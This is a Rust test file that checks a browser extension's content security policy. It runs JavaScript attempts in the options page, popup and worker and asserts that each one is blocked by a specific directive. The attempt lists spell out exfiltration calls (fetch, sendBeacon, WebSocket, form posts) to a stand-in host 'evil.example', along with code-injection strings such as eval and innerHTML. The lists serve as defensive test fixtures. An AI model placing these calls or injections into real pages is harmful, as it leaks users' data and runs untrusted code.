//! The content security policy, proven by attempts that fail: every way out and every way from text to code.

use std::time::Duration;

use serde_json::{Value, json};

use crate::{
    desk::{Desk, Outcome},
    support::chromium::{CdpError, Session},
};

/// Anything sent there is seen.
const EVIL: &str = "https://evil.example";

/// What a script tries in a page, and the directive that must stop it.
const IN_A_PAGE: [(&str, &str); 27] = [
    ("fetch(EVIL + '/fetch')", "connect-src"),
    ("fetch(EVIL + '/opaque', { mode: 'no-cors' })", "connect-src"),
    ("void navigator.sendBeacon(EVIL + '/beacon', 'x')", "connect-src"),
    ("void new WebSocket('wss://evil.example/socket')", "connect-src"),
    ("void new EventSource(EVIL + '/events')", "connect-src"),
    ("void Object.assign(new Image(), { src: EVIL + '/pixel.png' })", "img-src"),
    ("void document.body.append(element('link', { rel: 'stylesheet', href: EVIL + '/style.css' }))", "style-src-elem"),
    ("void document.body.append(element('style', { textContent: 'body { color: red }' }))", "style-src-elem"),
    ("void document.body.setAttribute('style', 'color: red')", "style-src-attr"),
    ("void document.body.append(element('iframe', { src: EVIL + '/frame' }))", "frame-src"),
    ("void document.body.append(element('object', { data: EVIL + '/object' }))", "require-trusted-types-for"),
    ("void document.body.append(element('video', { src: EVIL + '/video' }))", "media-src"),
    ("void document.head.append(element('base', { href: EVIL + '/' }))", "base-uri"),
    ("submitted(element('form', { action: EVIL + '/form', method: 'post' }))", "form-action"),
    ("import(EVIL + '/module.js')", "script-src-elem"),
    ("import('data:text/javascript,globalThis.ran = true')", "script-src-elem"),
    ("eval('globalThis.ran = true')", "require-trusted-types-for"),
    ("new Function('globalThis.ran = true')()", "require-trusted-types-for"),
    ("void setTimeout('globalThis.ran = true')", "require-trusted-types-for"),
    (
        "void document.body.append(element('script', { textContent: 'globalThis.ran = true' }))",
        "require-trusted-types-for",
    ),
    ("void document.body.append(element('script', { src: EVIL + '/script.js' }))", "require-trusted-types-for"),
    ("void document.body.setAttribute('onclick', 'globalThis.ran = true')", "require-trusted-types-for"),
    ("document.createElement('div').innerHTML = '<img>'", "require-trusted-types-for"),
    ("document.body.insertAdjacentHTML('beforeend', '<img>')", "require-trusted-types-for"),
    ("document.createRange().createContextualFragment('<img>')", "require-trusted-types-for"),
    ("void new Worker('data:text/javascript,0')", "require-trusted-types-for"),
    ("trustedTypes.createPolicy('ours', { createHTML: text => text })", "trusted-types"),
];

/// The same for the worker, which has no document.
const IN_THE_WORKER: [(&str, &str); 5] = [
    ("fetch(EVIL + '/fetch')", "connect-src"),
    ("fetch(EVIL + '/opaque', { mode: 'no-cors' })", "connect-src"),
    ("void new WebSocket('wss://evil.example/socket')", "connect-src"),
    ("eval('globalThis.ran = true')", "require-trusted-types-for"),
    ("new Function('globalThis.ran = true')()", "require-trusted-types-for"),
];

/// Checks F-02 and E-01: nothing leaves and nothing becomes code, and the browser says by which directive.
#[tokio::test]
async fn from_a_page_nothing_leaves_and_no_text_becomes_code() -> Outcome {
    let Some(desk) = Desk::new("attempts in pages").await? else { return Ok(()) };
    let tab = desk.browser.open_tab("https://security.microsoft.com/").await?;
    let options = desk.browser.open_extension_page("options.html").await?;
    let popup = desk.browser.open_popup(&tab).await?;
    for page in [&options, &popup] {
        let session = page.session();
        evaluate(session, LISTEN).await?;
        for (attempt, directive) in IN_A_PAGE {
            let violated = tried(session, attempt).await?;
            assert!(violated.contains(&directive.to_owned()), "{attempt}: {violated:?}, expected `{directive}`");
        }
        assert_eq!(evaluate(session, "typeof globalThis.ran").await?, json!("undefined"));
        assert_eq!(evaluate(session, "document.baseURI.startsWith('chrome-extension:')").await?, json!(true));
    }
    assert!(nothing_left(&desk).await.is_empty());
    Ok(())
}

/// Check F-02.
#[tokio::test]
async fn from_the_worker_nothing_leaves_and_no_text_becomes_code() -> Outcome {
    let Some(desk) = Desk::new("attempts in the worker").await? else { return Ok(()) };
    let worker = desk.browser.wake_worker().await?;
    evaluate(worker.session(), LISTEN).await?;
    for (attempt, directive) in IN_THE_WORKER {
        let violated = tried(worker.session(), attempt).await?;
        assert!(violated.contains(&directive.to_owned()), "{attempt}: {violated:?}, expected `{directive}`");
    }
    assert_eq!(evaluate(worker.session(), "typeof globalThis.ran").await?, json!("undefined"));
    assert!(nothing_left(&desk).await.is_empty());
    Ok(())
}

/// What every attempt may use, and the ear for what the policy stops.
const LISTEN: &str = "
    globalThis.EVIL = 'https://evil.example';
    globalThis.violated = [];
    addEventListener('securitypolicyviolation', event => violated.push(event.effectiveDirective));
    globalThis.element = (name, properties) => Object.assign(document.createElement(name), properties);
    globalThis.submitted = form => { document.body.append(form); form.submit(); };
    undefined";

/// The directives that the browser names within two seconds of the attempt. A script of DevTools is allowed `eval`
/// unless it says otherwise.
async fn tried(session: &Session, attempt: &str) -> Result<Vec<String>, CdpError> {
    let script = format!(
        "(async () => {{
             violated.length = 0;
             const start = performance.now();
             try {{ await Promise.race([(async () => {attempt})(), new Promise(done => setTimeout(done, 2000))]); }} catch {{ }}
             while (violated.length === 0 && performance.now() - start < 2000) await new Promise(done => setTimeout(done, 10));
             return [...violated];
         }})()"
    );
    let violated = evaluate(session, &script).await?;
    Ok(violated.as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned).collect())
}

async fn evaluate(session: &Session, script: &str) -> Result<Value, CdpError> {
    let params = json!({
        "expression": script, "awaitPromise": true, "returnByValue": true, "allowUnsafeEvalBlockedByCSP": false,
    });
    let reply = session.call("Runtime.evaluate", params).await?;
    match reply.get("exceptionDetails") {
        Some(details) => Err(CdpError::Thrown { script: script.to_owned(), exception: details.to_string() }),
        None => Ok(reply["result"]["value"].clone()),
    }
}

/// The addresses that arrived at the evil host. It is asked once from where it may be, so that what was on its way
/// is there by then.
async fn nothing_left(desk: &Desk) -> Vec<String> {
    let tab = desk.browser.open_tab(&format!("{EVIL}/last")).await.expect("a page of the evil host opens in a tab");
    let last = desk.tenant.wait_for_request(Duration::from_secs(10), |request| request.path == "/last").await;
    assert!(last.is_some(), "what arrives there is seen");
    tab.close().await.expect("a tab closes");
    let arrived = desk.tenant.requests_to("evil.example");
    arrived.into_iter().filter(|request| request.path != "/last").map(|request| request.url()).collect()
}
